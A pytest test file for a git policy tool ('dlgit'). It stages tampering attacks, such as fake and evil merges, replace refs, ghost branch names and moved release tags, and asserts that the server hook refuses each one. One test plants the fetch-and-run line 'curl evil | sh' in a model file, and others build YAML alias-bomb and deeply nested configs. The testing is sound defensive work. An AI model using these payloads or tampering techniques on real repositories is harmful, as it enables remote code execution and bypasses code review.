"""Issue 8: the attacks that got past `dlgit check` and pre-receive, each made for real.

Every attack runs against a bare "server" whose hooks/pre-receive execs `dlgit hook pre-receive`,
from a clone that pushes with `--no-verify` (the client hooks are the attacker's to skip); where
they apply, `dlgit check` on the clone and the client hooks are asked too. An attack test asserts
the secure behaviour (refused, the exit code, the rule id, the offending item); next to each one an
honest counterpart must pass. A `Guards` collector asks every guard before failing, so a failure
lists each guard that let the attack through. (tests/test_sources.py adds the merges of deleted
branches, which only their content can vouch for.)
"""

from __future__ import annotations

import json
import os
import resource
import shlex
import subprocess
import sys
import time
from pathlib import Path

import pytest
from conftest import Repo
from histories import (
    NEW_TASK,
    Check,
    bare_copy,
    bump,
    clone,
    commit,
    honest_history,
    install_hooks,
    isolated_git,
    merge,
    squash_release,
    task_config,
    version_of,
)

from dlgit import ci

Rule = str | tuple[str, ...]  # a rule id, or the ids of which one must be reported
Item = str | tuple[str, ...]  # a text the report must show, or texts of which one must show

DEBUG = "debug-0.2.0-20260103T000000-probe"
MIB = 1 << 20


# --- fixtures: an honest history once per module, a fresh server and clone per test -------------


@pytest.fixture(scope="module")
def history(tmp_path_factory: pytest.TempPathFactory) -> Path:
    base = tmp_path_factory.mktemp("attack-history")
    with isolated_git(base / "home"):
        return honest_history(base / "work").path


@pytest.fixture
def server(history: Path, tmp_path: Path) -> Repo:
    """A bare server copy of the honest history whose hooks/pre-receive execs `dlgit hook pre-receive`."""
    return bare_copy(history, tmp_path / "server.git", hook=True)


@pytest.fixture
def work(server: Repo, tmp_path: Path) -> Repo:
    """The attacker's clone, without client hooks (install_hooks adds them where a test asks them)."""
    return clone(server.path, tmp_path / "work", hooks=False)


# --- helpers --------------------------------------------------------------------------------------


def push(work: Repo, *refspecs: str, force: bool = False, upstream: bool = False) -> subprocess.CompletedProcess[str]:
    """`git push --no-verify origin REFSPECS`: only the server's pre-receive stands in the way."""
    options = ["--no-verify", *(["--force"] if force else []), *(["-u"] if upstream else [])]
    return work.git("push", *options, "origin", *refspecs, check=False)


def accepted(proc: subprocess.CompletedProcess[str]) -> None:
    assert proc.returncode == 0, f"an honest push was refused:\n{proc.stderr}"


def ref_on(server: Repo, ref: str) -> str | None:
    proc = server.git("rev-parse", "-q", "--verify", ref, check=False)
    return proc.stdout.strip() or None


def sparse(repo: Repo, relpath: str, size: int) -> None:
    """A file of `size` zero bytes that costs no disk (git compresses it to almost nothing)."""
    target = repo.path / relpath
    target.parent.mkdir(parents=True, exist_ok=True)
    with open(target, "wb") as file:
        file.truncate(size)


def dlgit_bytes(cwd: Path, *args: str, input: bytes | None = None) -> subprocess.CompletedProcess[bytes]:
    """The dlgit console script with its raw output (what reaches a terminal)."""
    return subprocess.run([str(Path(sys.executable).with_name("dlgit")), *args], cwd=cwd, input=input, capture_output=True,
                          check=False)


class Guards:
    """What each guard (pre-receive, `dlgit check`, a client hook) did with one attack; `verify`
    fails listing every guard that let it through."""

    def __init__(self) -> None:
        self.through: list[str] = []

    def expect(self, guard: str, code: int, output: str, rule: Rule | None, *items: Item, exit_code: int = 1) -> None:
        problems = [] if code == exit_code else [f"exit {code}, expected {exit_code}"]
        rules = (rule,) if isinstance(rule, str) else rule or ()
        if rules and not any(f"✗ {r}" in output for r in rules):
            problems.append(f"no {' or '.join(rules)} violation")
        for item in items:
            texts = (item,) if isinstance(item, str) else item
            if not any(text in output for text in texts):
                problems.append(f"{' or '.join(map(repr, texts))} not shown")
        if "Traceback" in output:
            problems.append("a traceback")
        if problems:
            tail = "\n".join("    | " + line for line in output.strip().splitlines()[-12:])
            self.through.append(f"{guard}: {'; '.join(problems)}\n{tail}")

    def push(self, proc: subprocess.CompletedProcess[str], rule: Rule | None, *items: Item) -> None:
        """What the server's hook said: only the `remote:` lines count (git's own summary names the refs too)."""
        said = "\n".join(line for line in proc.stderr.splitlines() if line.startswith("remote:"))
        self.expect("pre-receive", proc.returncode, said, rule, *items)

    def check(self, result: tuple[int, str], rule: Rule | None, *items: Item) -> None:
        self.expect("dlgit check", *result, rule, *items)

    def hook(self, proc: subprocess.CompletedProcess[str], rule: Rule | None, *items: Item) -> None:
        self.expect("client hook", proc.returncode, proc.stdout + proc.stderr, rule, *items)

    def unchanged(self, repo: Repo, ref: str, before: str | None, where: str = "server") -> None:
        after = ref_on(repo, ref)
        if after != before:
            self.through.append(f"{where}: {ref} moved from {before} to {after}")

    def verify(self) -> None:
        assert not self.through, "the attack got through:\n" + "\n".join(self.through)


def commit_with_hooks(work: Repo, message: str) -> subprocess.CompletedProcess[str]:
    """Commit what is staged with the client hooks in force; when they refuse, commit anyway with
    --no-verify (the attacker's way), so that the server and `dlgit check` are asked next."""
    proc = work.git("commit", "-q", "-m", message, check=False)
    if proc.returncode != 0:
        work.git("commit", "-q", "--no-verify", "-m", message)
    return proc


# --- 1. a "merge" into main whose tree is anything ------------------------------------------------


@pytest.mark.parametrize("second", ["dev", "main~1"], ids=["dev-tip", "already-contained"])
def test_fake_merge_made_with_commit_tree_is_refused(server: Repo, work: Repo, check: Check, second: str) -> None:
    before = server.head("main")
    work.write("model/backdoor.py", "BACKDOOR = 1\n")
    work.git("add", "-A")
    tree = work.git("write-tree").stdout.strip()
    fake = work.git("commit-tree", tree, "-p", "main", "-p", second, "-m", "chore: release dev").stdout.strip()
    work.git("update-ref", "refs/heads/main", fake)
    guards = Guards()
    guards.push(push(work, "main"), "main-protected", "model/backdoor.py")
    guards.unchanged(server, "refs/heads/main", before)
    guards.check(check(work), "main-protected", "model/backdoor.py")
    guards.verify()


def test_honest_merge_of_dev_into_main_passes(server: Repo, work: Repo, check: Check) -> None:
    work.git("switch", "-q", "dev")
    commit(work, "feat: a loss", {"model/loss.py": "LOSS = 1\n"})
    work.git("switch", "-q", "main")
    install_hooks(work)
    work.git("merge", "-q", "--no-ff", "-m", "chore: release dev", "dev")
    assert check(work)[0] == 0
    accepted(push(work, "main", "dev"))


# --- 2. evil merges: content added to a merge -----------------------------------------------------


def test_evil_merge_of_dev_adding_a_file_is_refused(server: Repo, work: Repo, check: Check) -> None:
    before = server.head("main")
    install_hooks(work)
    work.git("merge", "-q", "--no-ff", "--no-commit", "dev")
    work.write("model/backdoor.py", "BACKDOOR = 1\n")
    work.git("add", "-A")
    guards = Guards()
    guards.hook(commit_with_hooks(work, "chore: release dev"), "main-protected", "model/backdoor.py")
    guards.push(push(work, "main"), "main-protected", "model/backdoor.py")
    guards.unchanged(server, "refs/heads/main", before)
    guards.check(check(work), "main-protected", "model/backdoor.py")
    guards.verify()


def _hotfix(work: Repo) -> None:
    work.git("switch", "-q", "-c", "hotfix-typo", "main")
    commit(work, "fix: a typo", {"model/net.py": "NET = 2  # fixed\n"})
    work.git("switch", "-q", "main")


def test_hotfix_merge_carrying_200_extra_lines_is_refused(server: Repo, work: Repo, check: Check) -> None:
    before = server.head("main")
    _hotfix(work)
    install_hooks(work)
    work.git("merge", "-q", "--no-ff", "--no-commit", "hotfix-typo")
    work.write("model/extra.py", "".join(f"X{i} = {i}\n" for i in range(200)))
    work.git("add", "-A")
    guards = Guards()
    guards.hook(commit_with_hooks(work, "fix: merge hotfix-typo"), "hotfix-size", "model/extra.py")
    guards.push(push(work, "main", "hotfix-typo"), "hotfix-size", "model/extra.py")
    guards.unchanged(server, "refs/heads/main", before)
    guards.check(check(work), "hotfix-size", "model/extra.py")
    guards.verify()


def test_honest_hotfix_merge_passes(server: Repo, work: Repo, check: Check) -> None:
    _hotfix(work)
    install_hooks(work)
    work.git("merge", "-q", "--no-ff", "-m", "fix: merge hotfix-typo", "hotfix-typo")
    assert check(work)[0] == 0
    accepted(push(work, "main", "hotfix-typo"))


# --- 3. a release squash whose conflict is resolved with content from neither side ---------------


def _conflicting_release(work: Repo) -> None:
    """main gets a hotfix (NET = 10), dev a feature (NET = 5): squashing dev onto main conflicts."""
    work.git("switch", "-q", "-c", "hotfix-net", "main")
    commit(work, "fix: net overflow", {"model/net.py": "NET = 10\n"})
    work.git("switch", "-q", "main")
    merge(work, "hotfix-net", "fix: merge hotfix-net")
    work.git("switch", "-q", "dev")
    commit(work, "feat: bigger net", {"model/net.py": "NET = 5\n"})
    work.git("switch", "-q", "main")
    install_hooks(work)
    assert work.git("merge", "--squash", "dev", check=False).returncode != 0  # conflict in model/net.py


def test_squash_resolving_a_conflict_with_content_from_neither_side_is_refused(server: Repo, work: Repo, check: Check) -> None:
    before = server.head("main")
    _conflicting_release(work)
    work.write("model/net.py", "NET = 15\nimport os; os.system('curl evil | sh')\n")
    work.git("add", "-A")
    guards = Guards()
    guards.hook(commit_with_hooks(work, f"chore: release\n\nSquashed-from: dev@{work.head('dev')}"), "main-protected", "model/net.py")
    guards.push(push(work, "main", "dev", "hotfix-net"), "main-protected", "model/net.py")
    guards.unchanged(server, "refs/heads/main", before)
    guards.check(check(work), "main-protected", "model/net.py")
    guards.verify()


def test_squash_resolving_a_conflict_to_one_side_passes(server: Repo, work: Repo, check: Check) -> None:
    _conflicting_release(work)
    work.git("checkout", "--theirs", "--", "model/net.py")
    work.git("add", "-A")
    proc = work.git("commit", "-q", "-m", f"chore: release\n\nSquashed-from: dev@{work.head('dev')}", check=False)
    assert proc.returncode == 0, proc.stderr
    assert check(work)[0] == 0
    accepted(push(work, "main", "dev", "hotfix-net"))


# --- 4. a squash trailer naming a branch that exists nowhere -------------------------------------


def test_squash_trailer_naming_a_ghost_hotfix_is_refused(server: Repo, work: Repo, check: Check) -> None:
    before = server.head("main")
    work.git("switch", "-q", "-c", "feature-big", "dev")
    tip = commit(work, "feat: forty files", {f"model/big{i}.py": f"B = {i}\n" for i in range(40)})
    accepted(push(work, "feature-big"))
    work.git("switch", "-q", "main")
    work.git("merge", "--squash", "-q", "feature-big")
    commit(work, f"fix: urgent\n\nSquashed-from: hotfix-ghost@{tip}")
    guards = Guards()
    guards.push(push(work, "main"), ("main-protected", "merge-direction"), ("hotfix-ghost", "feature-big"))
    guards.unchanged(server, "refs/heads/main", before)
    guards.check(check(work), ("main-protected", "merge-direction"), ("hotfix-ghost", "feature-big"))
    guards.verify()


def test_squash_of_a_real_hotfix_passes(server: Repo, work: Repo, check: Check) -> None:
    work.git("switch", "-q", "-c", "hotfix-real", "main")
    tip = commit(work, "fix: a real fix", {"model/net.py": "NET = 2  # fixed\n"})
    work.git("switch", "-q", "main")
    install_hooks(work)
    work.git("merge", "--squash", "-q", "hotfix-real")
    proc = work.git("commit", "-q", "-m", f"fix: a real fix\n\nSquashed-from: hotfix-real@{tip}", check=False)
    assert proc.returncode == 0, proc.stderr
    assert check(work)[0] == 0
    accepted(push(work, "main", "hotfix-real"))


# --- 5. merge messages naming branches that do not exist ------------------------------------------


def test_debug_branch_merged_into_dev_as_a_ghost_feature_is_refused(server: Repo, work: Repo, check: Check) -> None:
    before = server.head("dev")
    work.git("switch", "-q", "-c", DEBUG, "dev")
    commit(work, "chore: probe", {"model/probe.py": "PROBE = 1\n"})
    accepted(push(work, DEBUG))
    work.git("switch", "-q", "dev")
    merge(work, DEBUG, "Merge branch 'feature-ghost' into dev")
    guards = Guards()
    guards.push(push(work, "dev"), "merge-direction", DEBUG)
    guards.unchanged(server, "refs/heads/dev", before)
    guards.check(check(work), "merge-direction", DEBUG)
    guards.verify()


def test_feature_merged_into_main_as_a_ghost_hotfix_is_refused(server: Repo, work: Repo, check: Check) -> None:
    before = server.head("main")
    work.git("switch", "-q", "-c", "feature-q", "main")  # from main: it brings nothing but its own commit
    commit(work, "feat: q", {"model/q.py": "Q = 1\n"})
    accepted(push(work, "feature-q"))
    work.git("switch", "-q", "main")
    merge(work, "feature-q", "fix: merge hotfix-ghost")
    guards = Guards()
    guards.push(push(work, "main"), "merge-direction", "feature-q")
    guards.unchanged(server, "refs/heads/main", before)
    guards.check(check(work), "merge-direction", "feature-q")
    guards.verify()


def test_merge_message_naming_the_real_branch_passes(server: Repo, work: Repo, check: Check) -> None:
    work.git("switch", "-q", "-c", "feature-real", "dev")
    commit(work, "feat: real", {"model/real.py": "REAL = 1\n"})
    work.git("switch", "-q", "dev")
    merge(work, "feature-real", "Merge branch 'feature-real' into dev")
    assert check(work)[0] == 0
    accepted(push(work, "dev", "feature-real"))


def _merged_then_deleted(work: Repo, target: str, message: str) -> str:
    """A topic branch from TARGET merged into it with MESSAGE, then deleted -> the topic's tip."""
    work.git("switch", "-q", "-c", "topic", target)
    tip = commit(work, "feat: topic work", {"model/topic.py": "T = 1\n"})
    work.git("switch", "-q", target)
    merge(work, "topic", message)
    work.git("branch", "-q", "-D", "topic")
    return tip


def test_merge_source_is_never_a_branch_that_got_the_commit_by_a_later_merge(work: Repo, check: Check) -> None:
    """A feature merged into main under a neutral message; dev then merged main, so dev *contains*
    the feature's commit. Containing it proves nothing: the source is unknown, and main refuses it."""
    _merged_then_deleted(work, "main", "chore: merge")
    work.git("switch", "-q", "dev")
    merge(work, "main", "Merge branch 'main' into dev")
    work.git("switch", "-q", "main")
    guards = Guards()
    guards.check(check(work), "merge-direction")
    line = f"refs/heads/main {work.head('main')} refs/heads/main {work.head('origin/main')}\n"
    guards.hook(work.dlgit("hook", "pre-push", "origin", "url", input=line), "merge-direction")
    guards.push(push(work, "main", "dev"), "merge-direction")  # the server asks its own branches: refused already
    guards.verify()


def test_pull_request_into_dev_is_not_judged_as_mains_commit_after_a_release(work: Repo, check: Check) -> None:
    """A deleted pull-request branch merged into dev, then dev merged into main (a release):
    main contains the branch's commit now, but it was never a commit made on main."""
    tip = _merged_then_deleted(work, "dev", "Merge pull request #7 from someone/topic")
    work.git("switch", "-q", "main")
    merge(work, "dev", "chore: release dev")
    _, out = check(work, "--branch", "dev", "--format", "json", "dev")
    findings = {c["sha"]: [v["rule"] for v in c["violations"]] for c in json.loads(out)["commits"]}
    assert "main-protected" not in findings.get(tip, []), findings


def test_merge_of_an_existing_branch_under_a_neutral_message_is_judged_by_that_branch(work: Repo, check: Check) -> None:
    work.git("switch", "-q", "-c", "hotfix-neutral", "main")
    commit(work, "fix: neutral", {"model/net.py": "NET = 2  # fixed\n"})
    work.git("switch", "-q", "main")
    merge(work, "hotfix-neutral", "fix: merge the fix")
    code, out = check(work)
    assert code == 0, out


# --- 6. the CI job trusting the pull request's head branch name ----------------------------------


def _ci(work: Repo, source: str, head: str) -> subprocess.CompletedProcess[str]:
    """The generated CI script for a pull request SOURCE -> main whose head commit is HEAD, with the
    variables GitHub fills in."""
    env = {"DLGIT_MR_TARGET": "main", "DLGIT_MR_SOURCE": source, "DLGIT_MR_BASE": work.head("origin/main"), "DLGIT_MR_HEAD": head}
    return subprocess.run(["sh", "-c", ci.SCRIPT], cwd=work.path, env={**os.environ, **env}, capture_output=True, text=True,
                          check=False)


def test_ci_pull_request_from_a_head_branch_named_dev_is_judged_by_content(work: Repo) -> None:
    dev = work.head("dev")
    work.git("switch", "-q", "--detach", "origin/main")
    head = commit(work, "feat: straight into main", {"model/net.py": "NET = 99\n"})  # a fork's branch that calls itself dev
    work.git("switch", "-q", "main")
    guards = Guards()
    proc = _ci(work, "dev", head)
    guards.expect("ci job", proc.returncode, proc.stdout + proc.stderr, ("merge-direction", "main-protected"))
    guards.unchanged(work, "refs/heads/dev", dev, "the CI clone")
    guards.verify()


def test_ci_pull_request_of_the_real_dev_passes(work: Repo) -> None:
    work.git("switch", "-q", "dev")
    commit(work, "feat: a loss", {"model/loss.py": "LOSS = 1\n"})
    accepted(push(work, "dev"))
    proc = _ci(work, "dev", work.head("origin/dev"))
    assert proc.returncode == 0, proc.stdout + proc.stderr


# --- 7. a branch relaxing its own policy -----------------------------------------------------------

RELAX = "rules:\n  disable: [large-file]\n"


def test_branch_cannot_relax_its_own_policy_for_a_later_push(server: Repo, work: Repo, check: Check) -> None:
    work.git("switch", "-q", "-c", "feature-x", "dev")
    commit(work, "chore: relax the policy", {".dlgit.yaml": RELAX})
    accepted(push(work, "feature-x", upstream=True))
    before = server.head("feature-x")
    sparse(work, "checkpoints/model.pt", 30 * MIB)
    commit(work, "feat: a checkpoint")
    guards = Guards()
    guards.push(push(work, "feature-x"), "large-file", "checkpoints/model.pt")
    guards.unchanged(server, "refs/heads/feature-x", before)
    guards.check(check(work), "large-file", "checkpoints/model.pt")
    guards.verify()


def test_pushes_after_a_policy_edit_pass_when_honest(server: Repo, work: Repo, check: Check) -> None:
    work.git("switch", "-q", "-c", "feature-x", "dev")
    commit(work, "chore: relax the policy", {".dlgit.yaml": RELAX})
    accepted(push(work, "feature-x", upstream=True))
    commit(work, "feat: a small file", {"model/small.py": "S = 1\n"})
    assert check(work)[0] == 0
    accepted(push(work, "feature-x"))


def test_client_hook_ignores_a_policy_staged_with_the_commit(work: Repo) -> None:
    install_hooks(work)
    work.git("switch", "-q", "-c", "feature-y", "dev")
    work.write(".dlgit.yaml", RELAX)
    work.write("checkpoints/model.pt", "weights\n")
    work.git("add", "-A")
    guards = Guards()
    guards.hook(work.git("commit", "-q", "-m", "feat: relax and add a checkpoint", check=False), "large-file", "checkpoints/model.pt")
    guards.verify()


def test_client_hook_honours_a_committed_policy(work: Repo) -> None:
    install_hooks(work)
    work.git("switch", "-q", "-c", "feature-y", "dev")
    work.write(".dlgit.yaml", "large_files:\n  max_bytes: 67108864\n")
    assert work.commit("chore: allow bigger files", ".dlgit.yaml").returncode == 0
    sparse(work, "data/table.dat", 30 * MIB)
    proc = work.commit("feat: a 30 MB table", "data/table.dat", check=False)
    assert proc.returncode == 0, proc.stderr


# --- 8. refs other than branches -------------------------------------------------------------------


def _checkpoint_commit(work: Repo) -> str:
    """A commit off main holding a 20 MB model.pt, on no branch."""
    work.git("switch", "-q", "--detach", "main")
    sparse(work, "model.pt", 20 * MIB)
    sha = commit(work, "chore: weights")
    work.git("switch", "-q", "main")
    return sha


@pytest.mark.parametrize("ref", ["refs/tags/junk", "refs/stash/x", "refs/notes/commits"])
def test_checkpoint_pushed_through_a_ref_that_is_no_branch_is_refused(server: Repo, work: Repo, ref: str) -> None:
    if ref == "refs/notes/commits":
        sparse(work, "big.dat", 20 * MIB)
        blob = work.git("hash-object", "-w", "big.dat").stdout.strip()
        (work.path / "big.dat").unlink()
        work.git("notes", "add", "-C", blob, "main")
        refspec, item = ref, ("large-file", ref)
    else:
        refspec, item = f"{_checkpoint_commit(work)}:{ref}", ("model.pt", ref)
    guards = Guards()
    guards.push(push(work, refspec), None, item)
    guards.unchanged(server, ref, None)
    guards.verify()


def test_plain_tag_on_main_passes(server: Repo, work: Repo) -> None:
    work.git("tag", "reviewed", "main")
    accepted(push(work, "refs/tags/reviewed"))


def test_new_task_branch_behind_an_existing_tag_is_judged_by_its_commits(server: Repo, work: Repo, check: Check) -> None:
    work.git("switch", "-q", "-c", NEW_TASK, "main")
    commit(work, "task: start lr0.1", {f"tasks/{NEW_TASK}/config.yaml": task_config("0.2.0")})
    commit(work, "task: and the net", {"model/net.py": "NET = 8\n"})
    work.git("tag", "snapshot")
    server.git("fetch", "-q", str(work.path), "refs/tags/snapshot:refs/tags/snapshot")  # a tag already there (the hook is no fetch)
    guards = Guards()
    guards.push(push(work, NEW_TASK), "task-scope", "model/net.py")
    guards.unchanged(server, f"refs/heads/{NEW_TASK}", None)
    guards.verify()


def test_new_task_branch_touching_only_its_folder_passes(server: Repo, work: Repo) -> None:
    work.git("switch", "-q", "-c", NEW_TASK, "main")
    commit(work, "task: start lr0.1", {f"tasks/{NEW_TASK}/config.yaml": task_config("0.2.0")})
    work.git("tag", "snapshot")
    server.git("fetch", "-q", str(work.path), "refs/tags/snapshot:refs/tags/snapshot")
    accepted(push(work, NEW_TASK))


# --- 9. replace refs, grafts and shallow history ---------------------------------------------------


def test_replace_ref_push_is_refused(server: Repo, work: Repo) -> None:
    other = commit(work, "feat: straight onto main", {"model/net.py": "NET = 3\n"})
    work.git("reset", "-q", "--hard", "origin/main")
    target = work.head("main~1")
    work.git("replace", target, other)
    guards = Guards()
    guards.push(push(work, f"refs/replace/{target}"), None, "refs/replace/")
    guards.unchanged(server, f"refs/replace/{target}", None)
    guards.verify()


def test_force_push_of_main_cannot_pass_as_fast_forward_through_a_replace_ref(server: Repo, work: Repo) -> None:
    """main is rewritten to drop its tip M (the bump): N merges a hotfix H into M's parent. A
    replacement H' of H (same tree, parents M~1 and M) makes M look like an ancestor of N."""
    old = work.head("main")
    work.git("switch", "-q", "-c", "hotfix-h", "main~1")
    hotfix = commit(work, "fix: h", {"model/h.py": "H = 1\n"})
    accepted(push(work, "hotfix-h"))
    parent = work.head("main~1")
    tree = work.git("merge-tree", "--write-tree", parent, hotfix).stdout.split()[0]
    rewritten = work.git("commit-tree", tree, "-p", parent, "-p", hotfix, "-m", "fix: merge hotfix-h").stdout.strip()
    fake = work.git("commit-tree", f"{hotfix}^{{tree}}", "-p", parent, "-p", old, "-m", "fix: h").stdout.strip()
    work.git("replace", hotfix, fake)
    work.git("switch", "-q", "main")
    server.git("fetch", "-q", str(work.path), f"refs/replace/{hotfix}:refs/replace/{hotfix}")  # already there, however it came
    guards = Guards()
    guards.push(push(work, f"{rewritten}:refs/heads/main", force=True), "history-rewrite", "refs/heads/main")
    guards.unchanged(server, "refs/heads/main", old)
    guards.verify()


def test_honest_fast_forward_of_main_passes(server: Repo, work: Repo) -> None:
    work.git("switch", "-q", "-c", "hotfix-h", "main")
    commit(work, "fix: h", {"model/h.py": "H = 1\n"})
    work.git("switch", "-q", "main")
    merge(work, "hotfix-h", "fix: merge hotfix-h")
    accepted(push(work, "main", "hotfix-h"))


def test_shallow_clone_is_reported_not_judged_as_a_root(work: Repo, check: Check, tmp_path: Path) -> None:
    commit(work, "feat: straight onto main", {"model/net.py": "NET = 3\n"})
    shallow = Repo(tmp_path / "shallow")
    Repo(tmp_path).git("clone", "-q", "--depth", "1", f"file://{work.path}", str(shallow.path))
    guards = Guards()
    code, out = check(shallow, "--branch", "main", "main")
    guards.expect("dlgit check", code, out, None, "shallow", exit_code=2)
    guards.verify()


def test_full_clone_of_honest_history_passes(work: Repo, check: Check) -> None:
    code, out = check(work, "--branch", "main", "main")
    assert code == 0, out


# --- 10. release tags are immutable ---------------------------------------------------------------


def test_release_tag_cannot_be_moved(server: Repo, work: Repo) -> None:
    work.git("switch", "-q", "-c", "hotfix-h", "main")
    commit(work, "fix: h", {"model/h.py": "H = 1\n"})
    work.git("switch", "-q", "main")
    merge(work, "hotfix-h", "fix: merge hotfix-h")  # later core code, still VERSION 0.2.0
    accepted(push(work, "main", "hotfix-h"))
    before = ref_on(server, "refs/tags/v0.2.0")
    work.git("tag", "-f", "-a", "-m", "release 0.2.0", "v0.2.0", "main")
    guards = Guards()
    guards.push(push(work, "refs/tags/v0.2.0", force=True), "release-tag", "v0.2.0")
    guards.unchanged(server, "refs/tags/v0.2.0", before)
    guards.verify()


def test_release_tag_cannot_be_deleted(server: Repo, work: Repo) -> None:
    before = ref_on(server, "refs/tags/v0.2.0")
    guards = Guards()
    guards.push(push(work, ":refs/tags/v0.2.0"), "release-tag", "v0.2.0")
    guards.unchanged(server, "refs/tags/v0.2.0", before)
    guards.verify()


def test_new_release_tag_and_other_tag_deletion_pass(server: Repo, work: Repo) -> None:
    work.git("switch", "-q", "dev")
    commit(work, "feat: a loss", {"model/loss.py": "LOSS = 1\n"})
    squash_release(work)
    bump(work, "0.3.0")
    work.git("tag", "-a", "-m", "release 0.3.0", "v0.3.0")
    work.git("switch", "-q", "dev")
    merge(work, "main", "Merge branch 'main' into dev")
    work.git("tag", "scratch", "main")
    accepted(push(work, "main", "dev", "v0.3.0", "scratch"))
    accepted(push(work, ":refs/tags/scratch"))


# --- 11. bounded work, no tracebacks --------------------------------------------------------------


def _alias_bomb(levels: int) -> str:
    """A task config whose RANDOM_SEED expands to 9**levels strings (a few hundred bytes of YAML)."""
    lines = ['a0: &a0 "lol"']
    lines += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, levels + 1)]
    return task_config("0.2.0").replace("RANDOM_SEED: 42\n", "") + "\n".join(lines) + f"\nRANDOM_SEED: *a{levels}\n"


def test_config_with_nested_aliases_is_reported_briefly(server: Repo, work: Repo, check: Check) -> None:
    work.git("switch", "-q", "-c", NEW_TASK, "main")
    bomb = _alias_bomb(6)
    assert len(bomb) < 1000
    commit(work, "task: start lr0.1", {f"tasks/{NEW_TASK}/config.yaml": bomb})
    guards = Guards()
    proc = push(work, NEW_TASK)
    guards.push(proc, "task-config", f"tasks/{NEW_TASK}/config.yaml")
    code, out = check(work)
    guards.check((code, out), "task-config", f"tasks/{NEW_TASK}/config.yaml")
    for who, said in (("pre-receive", proc.stderr), ("dlgit check", out)):
        if len(said) > 20_000 or "more than 100,000 values" not in said:  # the bounded loader stopped at its limit
            guards.through.append(f"{who}: {len(said):,} bytes of output, not the loader's limit:\n{said[-1500:]}")
    guards.verify()


def test_config_with_a_few_aliases_passes(work: Repo, check: Check) -> None:
    work.git("switch", "-q", "-c", NEW_TASK, "main")
    text = task_config("0.2.0").replace("RANDOM_SEED: 42\n", "seed: &seed 42\nRANDOM_SEED: *seed\n")
    commit(work, "task: start lr0.1", {f"tasks/{NEW_TASK}/config.yaml": text})
    code, out = check(work)
    assert code == 0, out


def _lower_size_limit(server: Repo, work: Repo, limit: int) -> None:
    """main's .dlgit.yaml sets large_files.max_bytes (put on the server as an admin would: no hook)."""
    commit(work, "chore: smaller files", {".dlgit.yaml": f"large_files:\n  max_bytes: {limit}\n"})
    server.git("fetch", "-q", str(work.path), "+main:main")
    work.git("fetch", "-q", "origin")


def test_huge_task_config_is_refused_without_being_parsed(server: Repo, work: Repo, check: Check) -> None:
    """large-file refuses a config over the size limit (here 512 KiB, as 100 MB would take minutes
    today) without parsing it: its last line is broken YAML, which task-config would report."""
    _lower_size_limit(server, work, 512 * 1024)
    work.git("switch", "-q", "-c", NEW_TASK, "main")
    keys = "".join(f"k{i}: {i}\n" for i in range(600_000 // 10))
    folder = f"tasks/{NEW_TASK}"
    commit(work, "task: a big config", {f"{folder}/config.yaml": task_config("0.2.0") + keys + "broken: [\n"})
    code, out = check(work)
    guards = Guards()
    guards.check((code, out), "large-file", f"{folder}/config.yaml")
    if "task-config" in out:
        guards.through.append(f"dlgit check parsed the big config:\n{out[-1500:]}")
    guards.verify()


NESTED = "rules: " + "[" * 2000 + "]" * 2000 + "\n"


def test_deeply_nested_dlgit_yaml_is_an_error_not_a_traceback(server: Repo, work: Repo) -> None:
    work.git("switch", "-q", "-c", "feature-n", "dev")
    commit(work, "chore: nested settings", {".dlgit.yaml": NESTED})
    push(work, "feature-n")  # the settings of main judge it: whether it passes is not the point
    commit(work, "feat: more", {"model/more.py": "M = 1\n"})
    guards = Guards()
    proc = push(work, "feature-n")
    if "Traceback" in proc.stderr or "RecursionError" in proc.stderr:
        guards.through.append(f"pre-receive: a traceback\n{proc.stderr[-1500:]}")
    checked = work.dlgit("check", "--branch", "feature-n", "feature-n")  # the work tree's settings: the range has no base
    guards.expect("dlgit check", checked.returncode, checked.stdout + checked.stderr, None, ".dlgit.yaml", exit_code=2)
    guards.verify()


def test_broken_dlgit_yaml_is_one_paragraph_and_exit_2(work: Repo, check: Check) -> None:
    work.git("switch", "-q", "-c", "feature-n", "dev")
    commit(work, "chore: broken settings", {".dlgit.yaml": "rules: [\n"})
    code, out = check(work, "--branch", "feature-n", "feature-n")
    assert code == 2 and ".dlgit.yaml" in out and "Traceback" not in out


@pytest.mark.parametrize(("hook", "stdin"), [("pre-receive", "garbage\n"), ("pre-receive", "a b c\n"), ("pre-push", "x y\n")],
                         ids=["pre-receive-one-word", "pre-receive-a-b-c", "pre-push-two-words"])
def test_malformed_hook_stdin_is_exit_2_with_one_paragraph(server: Repo, work: Repo, hook: str, stdin: str) -> None:
    where = server.path if hook == "pre-receive" else work.path
    proc = dlgit_bytes(where, "hook", hook, *(["origin", str(server.path)] if hook == "pre-push" else []), input=stdin.encode())
    guards = Guards()
    guards.expect(hook, proc.returncode, (proc.stdout + proc.stderr).decode(), None, "dlgit: error:", exit_code=2)
    guards.verify()


def test_well_formed_hook_stdin_passes(server: Repo, work: Repo) -> None:
    main = work.head("main")
    line = f"{main} {main} refs/heads/main\n"
    proc = dlgit_bytes(server.path, "hook", "pre-receive", input=line.encode())
    assert proc.returncode == 0, proc.stderr


def _big_message_commit(work: Repo, size: int) -> None:
    """A commit on a feature branch whose message body is `size` bytes."""
    work.git("reset", "-q", "--hard", "origin/dev")
    message = work.path.parent / "message.txt"
    message.write_text("feat: a long story\n\n" + ("word " * 15 + "\n") * (size // 81))
    work.git("commit", "-q", "--no-verify", "--allow-empty", "-F", str(message))


def test_commit_message_parsing_is_linear(work: Repo, check: Check) -> None:
    """8 MiB of message may cost 8x the CPU of 1 MiB, 12x with noise (today ≈ 40x: the log
    parser re-joins the unfinished field on every read of the pipe; a 50 MB message took 25 s).
    CPU time of this process (the parser runs in-process), the best of two runs: other jobs on
    the cores do not count."""
    work.git("switch", "-q", "-c", "feature-story", "dev")
    work.git("push", "-q", "--no-verify", "-u", "origin", "feature-story")
    cpu = {}
    for size in (0, MIB, 8 * MIB):
        _big_message_commit(work, size)
        runs = []
        for _ in range(2):
            started = time.process_time()
            check(work)
            runs.append(time.process_time() - started)
        cpu[size] = min(runs)
    small, large = cpu[MIB] - cpu[0], cpu[8 * MIB] - cpu[0]
    assert large < 12 * max(small, 0.005), f"CPU over an empty message: 1 MiB +{small:.3f} s, 8 MiB +{large:.3f} s"


def _install_with_file_size_limit(work: Repo, limit: int) -> subprocess.CompletedProcess[bytes]:
    def limited() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

    return subprocess.run([str(Path(sys.executable).with_name("dlgit")), "install"], cwd=work.path, capture_output=True, check=False,
                          preexec_fn=limited)


